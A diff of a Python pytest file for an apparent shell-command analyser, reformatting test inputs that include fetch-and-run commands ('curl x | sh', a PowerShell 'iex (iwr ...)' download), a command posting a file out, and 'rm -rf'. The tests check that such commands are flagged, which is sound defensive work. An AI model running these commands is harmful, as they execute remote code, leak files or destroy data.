@@ -563,7 +563,16 @@ def test_a_text_has_the_effect_of_its_heaviest_command(text, effect):
 
 @pytest.mark.parametrize(
     "text",
-    ["rm 'unterminated", "curl x | sh", f"echo {_LISTING} | base64 -d | sh", "ls; rm -rf x )", "iex (iwr https://x.example/a)", "echo $x | bash", "curl -d @f -K c h", "sftp host"],
+    [
+        "rm 'unterminated",
+        "curl x | sh",
+        f"echo {_LISTING} | base64 -d | sh",
+        "ls; rm -rf x )",
+        "iex (iwr https://x.example/a)",
+        "echo $x | bash",
+        "curl -d @f -K c h",
+        "sftp host",
+    ],
 )
 def test_a_change_that_is_not_fully_read_is_doubt_too(text):
     effects = {f.effect for f in shell.findings(text)}
@@ -591,7 +600,21 @@ def test_a_secret_is_not_told():
 
 @pytest.mark.parametrize(
     "text",
-    ["eval 'x' ;" * 400, "a|" * 2000, "$(" * 1300, "${" * 2000, "a=( " * 1000, "<<E\n" * 1000, "psql -c 'select a from b';" * 150, "`" * 4000, "bash -c '" * 400, "(" * 4000, "find . -exec " * 300, "python -c 'f()';" * 250, "Get-X {" * 500],
+    [
+        "eval 'x' ;" * 400,
+        "a|" * 2000,
+        "$(" * 1300,
+        "${" * 2000,
+        "a=( " * 1000,
+        "<<E\n" * 1000,
+        "psql -c 'select a from b';" * 150,
+        "`" * 4000,
+        "bash -c '" * 400,
+        "(" * 4000,
+        "find . -exec " * 300,
+        "python -c 'f()';" * 250,
+        "Get-X {" * 500,
+    ],
 )
 def test_no_text_takes_long(text):
     begun = time.process_time()
